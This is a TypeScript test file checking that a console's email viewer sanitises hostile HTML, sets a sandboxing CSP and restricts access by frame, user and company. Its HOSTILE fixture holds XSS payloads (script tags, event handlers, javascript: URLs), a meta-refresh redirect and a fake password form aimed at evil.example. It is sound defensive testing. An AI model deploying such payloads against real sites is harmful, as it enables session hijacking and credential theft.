import assert from 'node:assert/strict';
import { test } from 'node:test';
import { startApp } from '../../../test/kit/app.ts';
import { aStaffedCompany, PASSWORD } from '../../../test/kit/people.ts';

const HOSTILE = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
  <script>top.taken = 1</script><base href="https://evil.example/"></head>
  <body onload="alert(1)"><p style="color: #c00" onclick="alert(2)">Leak &lt;b&gt; at Unit 4</p>
  <form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
  <a href="javascript:alert(3)">one</a><a href=" https://portal.example/job?a=1&amp;b=2">two</a>
  <img src="https://pixel.example/open.gif" onerror="alert(4)"><img src="javascript:alert(5)">
  <p style="background: url(https://evil.example/cover)">Covered</p>
  <iframe src="https://evil.example/"></iframe><object data="x"></object><svg><script>alert(6)</script></svg>
  </body></html>`;

test('the frame of a mail', async (t) => {
  const kit = await startApp(t);
  const signedIn = async () => {
    const company = await aStaffedCompany(kit);
    const answer = await kit.app.inject({
      method: 'POST',
      url: '/console/api/session',
      headers: { 'x-console': '1' },
      payload: { email: company.admin.email, password: PASSWORD },
    });
    const cookie = String([answer.headers['set-cookie']].flat()[0]).split(';')[0] ?? '';
    return { ...company, cookie };
  };
  const company = await signedIn();
  const receive = async (mail: object) => {
    const { company_id, api_key } = company;
    const payload = { company_id, api_key, email_from: 'desk@unheard.example', ...mail };
    const answer = await kit.app.inject({ method: 'POST', url: '/api:intel/ingest/email/portal', payload });
    assert.equal(answer.statusCode, 200, answer.body);
    return answer.json<{ extraction_id: string }>().extraction_id;
  };
  const id = await receive({ email_subject: 'Work order 71', email_html: HOSTILE });
  const open = (path: string, headers: Record<string, string> = {}) =>
    kit.app.inject({
      url: `/console/mail/${path}`,
      headers: {
        cookie: company.cookie,
        'sec-fetch-dest': 'iframe',
        'sec-fetch-site': 'same-origin',
        ...headers,
      },
    });

  await t.test('shows what was written, and nothing that runs, loads or asks', async () => {
    const { statusCode, body, headers } = await open(id);
    assert.equal(statusCode, 200, body);
    assert.match(body, /<p style="color: #c00">Leak &lt;b&gt; at Unit 4<\/p>/);
    assert.match(body, /href=" https:\/\/portal\.example\/job\?a=1&amp;b=2" target="_blank" rel="noopener/);
    assert.doesNotMatch(body, /script|alert|on\w+=|refresh|<form|<input|<iframe|<object|<base|<svg/i);
    assert.match(String(headers['content-type']), /^text\/html/);
    const policy = String(headers['content-security-policy']);
    assert.match(policy, /^sandbox allow-popups; default-src 'none'; .*img-src data:;/);
    assert.equal(headers['x-frame-options'], 'SAMEORIGIN');
  });

  await t.test('loads images only when asked to', async () => {
    assert.doesNotMatch((await open(id)).body, /pixel|cover/);
    const { headers, body } = await open(`${id}?images=true`);
    assert.match(String(headers['content-security-policy']), /img-src https: data:/);
    assert.match(body, /<img src="https:\/\/pixel\.example\/open\.gif">/);
  });

  await t.test('shows the text of a mail without HTML as text', async () => {
    const plain = await receive({
      email_subject: 'Work order 72',
      email_text: 'Job 72 <script>x</script> & so on',
    });
    assert.match((await open(plain)).body, /<pre[^>]*>.*Job 72/s);
    assert.doesNotMatch((await open(plain)).body, /<script>/);
  });

  await t.test('is for a frame of the console, its user and their company only', async () => {
    assert.equal((await open(id, { 'sec-fetch-dest': 'document' })).statusCode, 403);
    assert.equal((await open(id, { 'sec-fetch-site': 'cross-site' })).statusCode, 403);
    assert.equal((await open(id, { cookie: '' })).statusCode, 401);
    assert.equal((await open(id, { cookie: (await signedIn()).cookie })).statusCode, 404);
    assert.equal((await open('0f0e0d0c-9999-4000-8000-000000000001')).statusCode, 404);
  });
});
